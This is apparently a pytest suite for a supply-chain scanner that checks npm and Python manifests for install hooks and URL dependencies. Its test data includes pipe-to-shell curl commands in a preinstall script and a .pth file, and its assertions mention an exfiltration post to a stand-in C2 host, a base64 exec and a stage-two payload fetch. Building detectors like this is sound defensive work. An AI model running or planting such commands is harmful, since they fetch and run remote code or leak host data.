"""Manifests: install hooks, dependencies and metadata of npm and Python packages."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from distrust.analyze.kinds import DYNAMIC, is_known
from distrust.analyze.manifest import (
    ManifestResult,
    analyze_manifest,
    analyze_package_json,
    analyze_pkg_info,
    analyze_pth,
    analyze_pyproject,
    analyze_setup_cfg,
    analyze_setup_py,
    manifest_analyzer,
)

FIXTURES = Path(__file__).parent.parent / "fixtures" / "analyze" / "py"


def pairs(result: ManifestResult) -> set[tuple[str, str]]:
    for cap in result.capabilities:
        assert is_known(cap.kind), cap.kind
    return {(c.kind, c.value) for c in result.capabilities}


def package_json(**fields: object) -> bytes:
    return json.dumps({"name": "demo", "version": "1.0.0", **fields}, indent=2).encode()


def test_npm_install_scripts_and_lines() -> None:
    data = package_json(
        scripts={
            "postinstall": "node setup.js",
            "test": "jest",
            "preinstall": "curl https://x.example.org/i.sh | sh",
        }
    )
    result = analyze_package_json("package.json", data)
    caps = pairs(result)
    assert ("install.hook", "postinstall: node setup.js") in caps
    assert ("install.hook", "preinstall: curl https://x.example.org/i.sh | sh") in caps
    assert ("network.url", "https://x.example.org/i.sh") in caps
    assert ("code.dynamic", "pipe to shell") in caps
    assert not any(v.startswith("test:") for _, v in caps)
    hook = next(c for c in result.capabilities if c.value == "postinstall: node setup.js")
    assert data.decode().splitlines()[hook.line - 1].strip().startswith('"postinstall"')


def test_npm_dependencies_and_url_specs() -> None:
    data = package_json(
        dependencies={
            "postmark": "^4.0.0",
            "evil": "git+https://github.com/x/evil.git",
            "short": "user/repo#main",
        },
        optionalDependencies={"tar": "file:../tar.tgz"},
        peerDependencies={"react": ">=18"},
        devDependencies={"jest": "29"},
    )
    caps = pairs(analyze_package_json("package.json", data))
    assert {
        ("dependency", "postmark@^4.0.0"),
        ("dependency", "react@>=18"),
        ("dependency", "tar@file:../tar.tgz"),
    } <= caps
    urls = {v for k, v in caps if k == "dependency.url"}
    assert urls == {"evil@git+https://github.com/x/evil.git", "short@user/repo#main", "tar@file:../tar.tgz"}
    assert ("dependency", "jest@29") not in caps


def test_npm_binding_gyp_is_an_implicit_install_hook() -> None:
    implicit = ("install.hook", "install: node-gyp rebuild (implicit: binding.gyp)")
    assert implicit in pairs(analyze_package_json("package.json", package_json(), has_binding_gyp=True))
    assert implicit in pairs(analyze_package_json("package.json", package_json(gypfile=True)))
    assert implicit not in pairs(analyze_package_json("package.json", package_json()))
    own = package_json(scripts={"install": "prebuild-install || node-gyp rebuild"})
    assert implicit not in pairs(analyze_package_json("package.json", own, has_binding_gyp=True))


def test_npm_metadata() -> None:
    data = package_json(
        description="Postmark MCP",
        repository={"type": "git", "url": "git+https://github.com/x/y.git"},
        author={"name": "phanpak", "email": "p@example.org"},
        license="MIT",
        homepage="https://example.org",
        bin={"demo": "cli.js"},
    )
    meta = dict(analyze_package_json("package.json", data).metadata)
    assert meta == {
        "name": "demo",
        "version": "1.0.0",
        "description": "Postmark MCP",
        "homepage": "https://example.org",
        "repository": "git+https://github.com/x/y.git",
        "author": "phanpak <p@example.org>",
        "license": "MIT",
        "bin": "demo: cli.js",
    }


@pytest.mark.parametrize(
    ("data", "problem"),
    [
        (b'{"name": "x",\n "version": }', "package.json: invalid JSON at line 2, column"),
        (b"[1, 2]", "package.json: expected a JSON object, found list"),
        (b'{"scripts": "oops"}', "package.json: field 'scripts' is not an object"),
    ],
)
def test_npm_bad_input_is_a_problem_not_a_traceback(data: bytes, problem: str) -> None:
    result = analyze_package_json("package.json", data)
    assert any(p.startswith(problem) for p in result.problems), result.problems


def test_setup_py_cmdclass_and_reachable_code() -> None:
    source = (FIXTURES / "setup_cmdclass.py.txt").read_bytes()
    result = analyze_setup_py("setup.py", source)
    caps = pairs(result)
    assert ("install.hook", "cmdclass install: PostInstall") in caps
    # beacon() is called from the install command, so its process spawn runs at install
    assert (
        "install.hook",
        "setup.py: process.spawn subprocess.run: curl -d * https://collector.example-c2.net/hit",
    ) in caps
    assert ("install.hook", "setup.py: recon.system socket.gethostname") in caps
    # unused_helper() never runs at install time: its os.system is a capability, not a hook
    assert ("process.spawn", "os.system: echo never called at install") in caps
    assert not any("never called" in v for k, v in caps if k == "install.hook")
    assert ("dependency", "requests@>=2") in caps
    assert ("dependency.url", "evil@https://files.example-c2.net/evil-1.0.tar.gz") in caps
    meta = dict(result.metadata)
    assert meta["name"] == "internal-tool" and meta["version"] == "99.0.0"
    assert meta["homepage"] == "https://github.com/example/internal-tool"


def test_setup_py_top_level_exec_is_an_install_hook() -> None:
    caps = pairs(analyze_setup_py("setup.py", (FIXTURES / "setup_toplevel.py.txt").read_bytes()))
    assert ("install.hook", "setup.py: code.decode_exec exec(base64)") in caps
    assert (
        "install.hook",
        "setup.py: network.request urllib.request.urlopen https://payload.example-c2.net/stage2",
    ) in caps


def test_benign_setup_py_has_no_hook() -> None:
    source = b"""
import os
from setuptools import setup, find_packages
here = os.path.dirname(__file__)
with open(os.path.join(here, "README.md")) as fh:
    long_description = fh.read()
exec(open("pkg/version.py").read())
setup(name="fine", version=__version__, packages=find_packages(), install_requires=["click"])
"""
    caps = pairs(analyze_setup_py("setup.py", source))
    assert not any(k == "install.hook" for k, _ in caps), caps
    assert ("code.dynamic", "exec(file pkg/version.py)") in caps


def test_setup_py_computed_dependency_name_is_folded() -> None:
    source = (
        b"a = 'mat'\nb = 'plotlib'\nname = a + b\nfrom setuptools import setup\n"
        b"setup(install_requires=[f'{name}==1.0', dep])\n"
    )
    caps = pairs(analyze_setup_py("setup.py", source))
    assert ("dependency", "matplotlib@==1.0") in caps
    assert ("dependency", f"{DYNAMIC}@{DYNAMIC}") in caps


def test_setup_py_python2_falls_back() -> None:
    source = b'import os\nprint "hi"\nos.system("id")\nsetup(cmdclass={"install": X})\n'
    result = analyze_setup_py("setup.py", source)
    caps = pairs(result)
    assert ("install.hook", "setup.py (unparsed): process.spawn os.system") in caps
    assert ("install.hook", "cmdclass: <dynamic> (unparsed)") in caps
    assert result.problems == ("setup.py: syntax error at line 2; analysed by tokens",)


def test_pth_import_lines() -> None:
    data = b"/opt/lib/extra\nimport os; os.system('curl https://x.example.org | sh')\n# comment\n"
    result = analyze_pth("pkg/evil.pth", data)
    caps = {(c.kind, c.value, c.line) for c in result.capabilities}
    assert ("install.hook", "evil.pth: import os; os.system('curl https://x.example.org | sh')", 2) in caps
    assert ("process.spawn", "os.system: curl https://x.example.org | sh", 2) in caps
    assert not any(k == "install.hook" for k, _, _ in caps if _ == 1)
    assert analyze_pth("ok.pth", b"/just/a/path\n").capabilities == ()


def test_pyproject() -> None:
    data = b"""
[build-system]
requires = ["setuptools>=61", "helper @ git+https://github.com/x/helper"]
build-backend = "backend"
backend-path = ["_build"]

[project]
name = "demo"
version = "2.0"
description = "A demo"
license = {text = "MIT"}
authors = [{name = "A. Author", email = "a@example.org"}]
dependencies = ["httpx>=0.27", "bad @ https://evil.example/bad.whl"]
[project.urls]
Homepage = "https://example.org"
Repository = "https://github.com/x/demo"
"""
    result = analyze_pyproject("pyproject.toml", data)
    caps = pairs(result)
    assert ("install.hook", "build-backend: backend (in-tree: _build)") in caps
    assert {("dependency", "setuptools@>=61"), ("dependency", "httpx@>=0.27")} <= caps
    assert {
        ("dependency.url", "helper@git+https://github.com/x/helper"),
        ("dependency.url", "bad@https://evil.example/bad.whl"),
    } <= caps
    meta = dict(result.metadata)
    assert (
        meta["name"] == "demo"
        and meta["license"] == "MIT"
        and meta["repository"] == "https://github.com/x/demo"
    )
    assert meta["author"] == "A. Author <a@example.org>"


def test_pyproject_bad_toml() -> None:
    result = analyze_pyproject("pyproject.toml", b"[project\nname = 1\n")
    assert result.problems and result.problems[0].startswith("pyproject.toml: invalid TOML:")
    assert "line 1" in result.problems[0]


def test_setup_cfg() -> None:
    data = b"""[metadata]
name = cfgdemo
version = 0.3
author = Someone
url = https://example.org/cfg

[options]
install_requires =
    requests>=2
    tool @ git+https://github.com/x/tool
"""
    result = analyze_setup_cfg("setup.cfg", data)
    caps = {(c.kind, c.value, c.line) for c in result.capabilities}
    assert ("dependency", "requests@>=2", 9) in caps
    assert ("dependency.url", "tool@git+https://github.com/x/tool", 10) in caps
    assert dict(result.metadata)["name"] == "cfgdemo"
    assert analyze_setup_cfg("setup.cfg", b"no section header\n").problems


def test_pkg_info() -> None:
    data = b"""Metadata-Version: 2.1
Name: demo
Version: 1.2
Summary: Demo package
Home-page: https://example.org
Author: phanpak
License: UNKNOWN
Project-URL: Source, https://github.com/x/demo
Requires-Dist: requests (>=2.0)
Requires-Dist: evil @ https://evil.example/e.tar.gz

Long description with https://ignored.example.org
"""
    result = analyze_pkg_info("PKG-INFO", data)
    meta = dict(result.metadata)
    assert meta == {
        "name": "demo",
        "version": "1.2",
        "description": "Demo package",
        "homepage": "https://example.org",
        "author": "phanpak",
        "repository": "https://github.com/x/demo",
    }
    assert ("dependency.url", "evil@https://evil.example/e.tar.gz") in pairs(result)


def test_dispatch_by_name() -> None:
    assert manifest_analyzer("a/b/package.json") is analyze_package_json
    assert manifest_analyzer("x.dist-info/METADATA") is analyze_pkg_info
    assert manifest_analyzer("site/evil.pth") is analyze_pth
    assert manifest_analyzer("index.js") is None
    assert analyze_manifest("README.md", b"x") is None
